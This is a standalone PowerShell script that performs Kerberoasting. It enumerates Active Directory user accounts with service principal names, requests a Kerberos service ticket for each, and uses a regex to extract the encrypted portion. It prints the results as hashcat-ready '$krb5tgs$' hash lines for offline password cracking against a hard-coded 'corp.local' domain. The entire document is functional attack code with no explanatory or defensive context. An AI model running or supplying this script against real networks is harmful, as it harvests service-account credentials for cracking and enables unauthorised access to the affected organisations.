# Request TGS tickets for every user SPN and print them in hashcat format
Add-Type -AssemblyName System.IdentityModel

$searcher = [adsisearcher]'(&(samAccountType=805306368)(servicePrincipalName=*))'
$searcher.PageSize = 1000
$searcher.PropertiesToLoad.AddRange(@('samaccountname', 'serviceprincipalname'))

foreach ($result in $searcher.FindAll()) {
    $sam = $result.Properties['samaccountname'][0]
    $spn = $result.Properties['serviceprincipalname'][0]
    try {
        $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
        $bytes = $ticket.GetRequest()
        $hex = [BitConverter]::ToString($bytes) -replace '-'
        if ($hex -match 'a382....3082....A0030201(?<EType>..)A1.{1,4}.......A282(?<CipherTextLen>....)........(?<DataToEnd>.+)') {
            $cipher = $Matches.DataToEnd.Substring(0, [Convert]::ToInt32($Matches.CipherTextLen, 16) * 2 - 4)
            '$krb5tgs${0}$*{1}$corp.local${2}*${3}${4}' -f $Matches.EType, $sam, $spn, $cipher.Substring(0, 32), $cipher.Substring(32)
        }
    }
    catch {
        Write-Warning "failed $spn : $_"
    }
}
